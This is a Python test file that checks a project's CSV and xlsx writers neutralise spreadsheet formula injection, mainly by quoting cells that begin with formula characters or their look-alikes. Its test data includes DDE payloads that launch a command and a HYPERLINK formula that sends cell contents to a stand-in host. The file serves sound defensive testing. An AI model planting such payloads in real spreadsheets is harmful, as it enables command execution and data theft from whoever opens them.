"""Forty ways to begin a formula, and hostile texts: none is alive in an xlsx or a csv, and we read the text again."""

import csv
import sys
import unicodedata
import zipfile

import polars as pl
import pytest
from python_calamine import CalamineWorkbook

from tests.hostile_texts import hostile_texts
from xiuhua.bridge.workbook.reading import open_raw
from xiuhua.papers.text_table import LIVE, ROWS_AT_ONCE, quieted, text_table, write_text_table
from xiuhua.papers.text_workbook import Page, write_text_workbook
from xiuhua.reckon.intake.spelling import cleaned

PREFIXES = [
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "\r\n=", "\0=", "\x01=", "\x1f=", " =", "\u3000=", "\u00a0=", "\u200b=",
    "\ufeff=", "\u202e=", "'=", "''=", '"=', "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫", "⁺", "⁻", "⁼", "₊",
    "\u2212",
    "=cmd|' /C calc'!A0;", "+cmd|' /C calc'!A0;", "-2+3+cmd|' /C calc'!A0;", "@SUM(1+1)*cmd|' /C calc'!A0;",
    '=HYPERLINK("http://x.example?"&A1);', "=WEBSERVICE(A1);", '=DDE("cmd";"/C calc";"x");', ";=", ",=", '",=',
]  # fmt: skip
TEXTS = [*(f"{prefix}1+1" for prefix in PREFIXES), *hostile_texts()]


def as_read(texts: list[str]) -> list[str | None]:
    """How an import understands cells."""
    return pl.DataFrame({"cell": texts}, schema={"cell": pl.String}).select(cleaned("cell"))["cell"].to_list()


def test_there_are_forty():
    assert len(set(PREFIXES)) == len(PREFIXES) >= 40


def test_a_workbook_holds_them_as_text_and_they_read_back_the_same(tmp_path):
    path = tmp_path / "a.xlsx"
    write_text_workbook(path, [Page("甲", ["姓名"], [[text] for text in TEXTS], above=TEXTS[:3], foot="=1&2")])
    sheet = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()
    assert [row[0] for row in sheet] == [*TEXTS[:3], "姓名", *TEXTS]
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert [name for name in archive.namelist() if "link" in name.lower()] == []
    assert ("<f>" in xml, "<f " in xml, "hyperlink" in xml) == (False, False, False)
    assert xml.count('t="inlineStr"') == len(TEXTS) + 4


def test_no_cell_of_a_table_begins_a_formula(tmp_path):
    path = tmp_path / "a.csv"
    write_text_table(path, Page("甲", ["姓名", "=头"], [[text, text] for text in TEXTS], above=[TEXTS[0]]))
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert len(rows) == len(TEXTS) + 2
    firsts = {cell.lstrip("\ufeff\u200b\u202e\x01\x1f \t\r\n")[:1] for row in rows for cell in row}
    assert firsts & {*LIVE, "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫", "⁺", "⁻", "⁼", "₊"} == set()


def test_no_letter_or_digit_is_the_wide_form_of_what_begins_a_formula():
    letters = (letter for letter in map(chr, range(sys.maxunicode + 1)) if letter.isalnum())
    assert [letter for letter in letters if unicodedata.normalize("NFKC", letter)[:1] in LIVE] == []


def test_a_table_comes_in_pieces_of_some_hundreds_of_rows():
    pieces = list(text_table(Page("甲", ["乙"], ([str(number)] for number in range(2 * ROWS_AT_ONCE + 1)))))
    assert [piece.count(b"\r\n") for piece in pieces] == [1, ROWS_AT_ONCE, ROWS_AT_ONCE, 1]


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_an_import_reads_the_text_that_was_written(tmp_path, ending):
    path, page = tmp_path / f"a.{ending}", Page("甲", ["姓名", "乙"], [[text, "x"] for text in TEXTS])
    if ending == "csv":
        write_text_table(path, page)
    else:
        write_text_workbook(path, [page])
    raw = open_raw(path)
    name = raw.sheets[0].name
    cells = [cell for _, frame in raw.frames([name]) for cell in frame["0"].to_list()][1:]
    # NUL is no text of any csv, and no database keeps it.
    wanted = [text.replace("\0", "") for text in TEXTS] if ending == "csv" else TEXTS
    assert as_read(cells) == as_read(wanted)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1", "'=1"),
        ("\t=1", "'=1"),
        ("赵=1", "赵=1"),
        ("", ""),
        ("'=1", "'=1"),
        ("138-1", "138-1"),
        ("\u200b=", "'\u200b="),
    ],
)
def test_only_what_begins_a_formula_gets_an_apostrophe(text, written):
    assert quieted(text) == written


def test_lines_above_and_a_foot_leave_the_header_in_sight(tmp_path):
    path = tmp_path / "a.xlsx"
    page = Page("甲", ["一", "二"], [["x", "y"]], above=["谁、何时、为何"], foot="甲 & 乙", widths=[30, 5])
    write_text_workbook(path, [page])
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert 'ySplit="2"' in xml
    assert "&amp;L甲 &amp;&amp; 乙" in xml
    assert CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python() == [
        ["谁、何时、为何", ""],
        ["一", "二"],
        ["x", "y"],
    ]
